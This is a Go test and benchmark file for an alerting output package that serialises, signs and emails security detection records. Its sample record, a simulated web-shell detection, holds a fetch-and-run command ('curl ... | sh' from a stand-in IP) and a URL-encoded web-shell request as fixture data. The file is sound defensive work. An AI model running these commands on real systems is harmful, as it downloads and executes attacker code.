@@ -1,0 +1,140 @@
+package output
+
+import (
+	"encoding/json"
+	"testing"
+	"time"
+)
+
+// benchRecord is a detection-like record of about 2 KB of JSON, with values as Fluent Bit
+// decodes them ([]byte strings, map[any]any maps, int64/uint64 numbers).
+func benchRecord() Record {
+	return Record{
+		Tag:  "lc.detections",
+		Time: time.Date(2026, 11, 27, 10, 0, 0, 123456789, time.UTC),
+		Fields: map[string]any{
+			"cat":       []byte("Suspicious Shell Spawned By Web Server"),
+			"source":    []byte("dr-general"),
+			"detect_id": []byte("b7f1c2d4-9a3e-4f60-8d2b-1e5a7c9f0b31"),
+			"link":      []byte("https://app.limacharlie.io/orgs/8cbe27f4-bfa1-4afb-ba19-138cd51389cd/sensors/bb4b30af-ff11-4ff4-836f-f014ada33345/timeline?time=1795773600&selected=b7f1c2d4"),
+			"priority":  int64(4),
+			"detect_mtd": map[any]any{
+				"description":    []byte("A shell was started by a process that serves web traffic; this is a common sign of remote code execution."),
+				"falsepositives": []any{[]byte("Administrative scripts run from CGI"), []byte("Health checks")},
+				"level":          []byte("high"),
+				"tags":           []any{[]byte("attack.execution"), []byte("attack.t1059.004"), []byte("attack.persistence")},
+			},
+			"detect": map[any]any{
+				"event": map[any]any{
+					"FILE_PATH":    []byte("/bin/sh"),
+					"COMMAND_LINE": []byte("/bin/sh -c curl -s http://203.0.113.7/x.sh | sh; echo done > /tmp/.marker"),
+					"HASH":         []byte("2f1c4ab6e3a9d6b1f0e7c8d5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5"),
+					"PROCESS_ID":   int64(31337),
+					"USER_NAME":    []byte("www-data"),
+					"CWD":          []byte("/var/www/html/uploads"),
+					"ENVIRONMENT": []any{[]byte("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"),
+						[]byte("HOME=/var/www"), []byte("LANG=C.UTF-8"), []byte("SERVER_SOFTWARE=nginx/1.24.0"),
+						[]byte("REQUEST_URI=/uploads/shell.php?cmd=curl%20-s%20http%3A%2F%2F203.0.113.7%2Fx.sh%20%7C%20sh"),
+						[]byte("REMOTE_ADDR=203.0.113.7"), []byte("HTTP_USER_AGENT=Mozilla/5.0 (X11; Linux x86_64) curl/8.5.0")},
+					"MEMORY_USAGE": int64(4194304),
+					"THREADS":      int64(1),
+					"PARENT": map[any]any{
+						"FILE_PATH":    []byte("/usr/sbin/nginx"),
+						"COMMAND_LINE": []byte("nginx: worker process"),
+						"PROCESS_ID":   int64(1042),
+						"HASH":         []byte("9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d"),
+					},
+				},
+				"routing": map[any]any{
+					"hostname":   []byte("web-1.prod.corp.example"),
+					"sid":        []byte("bb4b30af-ff11-4ff4-836f-f014ada33345"),
+					"oid":        []byte("8cbe27f4-bfa1-4afb-ba19-138cd51389cd"),
+					"event_type": []byte("NEW_PROCESS"),
+					"event_time": uint64(1795773600123),
+					"ext_ip":     []byte("198.51.100.23"),
+					"int_ip":     []byte("10.0.4.17"),
+					"plat":       int64(536870912),
+					"arch":       int64(2),
+					"tags":       []any{[]byte("prod"), []byte("web"), []byte("pci")},
+					"this":       []byte("5a1f2e3d4c5b6a79"),
+					"parent":     []byte("0f1e2d3c4b5a6978"),
+				},
+			},
+			"namespace": []byte("general"),
+			"rule_tags": []any{[]byte("web"), []byte("shell"), []byte("rce")},
+			"score":     0.87,
+		},
+	}
+}
+
+// TestBenchRecordSize keeps the benchmark record near 2 KB of JSON.
+func TestBenchRecordSize(t *testing.T) {
+	p, err := Payload(benchRecord(), "date")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(p) < 1800 || len(p) > 2300 || !json.Valid(p) {
+		t.Errorf("bench payload is %d bytes (valid JSON: %v), want about 2048", len(p), json.Valid(p))
+	}
+}
+
+// BenchmarkNormalize measures record -> sorted JSON payload.
+func BenchmarkNormalize(b *testing.B) {
+	rec := benchRecord()
+	var st state
+	b.ReportAllocs()
+	for b.Loop() {
+		if err := st.encodePayload(rec, "date"); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.SetBytes(int64(len(st.payload)))
+}
+
+// BenchmarkSign measures the HMAC-SHA256 signature of a 2 KB payload (hex included).
+func BenchmarkSign(b *testing.B) {
+	p, _ := Payload(benchRecord(), "date")
+	secret := []byte(testSecret)
+	b.ReportAllocs()
+	b.SetBytes(int64(len(p)))
+	for b.Loop() {
+		_ = Sign(p, secret)
+	}
+}
+
+func benchRender(b *testing.B, readable bool) {
+	r := mustRenderer(b, testConfig(readable))
+	rec := benchRecord()
+	b.ReportAllocs()
+	var n int
+	for b.Loop() {
+		e, err := r.Render(rec)
+		if err != nil {
+			b.Fatal(err)
+		}
+		n = len(e.Data)
+	}
+	b.ReportMetric(float64(n), "email-bytes")
+}
+
+// BenchmarkRenderMachine measures a whole machine-format email.
+func BenchmarkRenderMachine(b *testing.B) { benchRender(b, false) }
+
+// BenchmarkRenderReadable measures a whole readable-format (HTML) email.
+func BenchmarkRenderReadable(b *testing.B) { benchRender(b, true) }
+
+// BenchmarkRecordToBytes is issue 7's target: record -> signed bytes, machine format, 2 KB,
+// run from several goroutines as Workers would.
+func BenchmarkRecordToBytes(b *testing.B) {
+	r := mustRenderer(b, testConfig(false))
+	rec := benchRecord()
+	b.ReportAllocs()
+	b.RunParallel(func(pb *testing.PB) {
+		for pb.Next() {
+			if _, err := r.Render(rec); err != nil {
+				b.Error(err)
+				return
+			}
+		}
+	})
+}
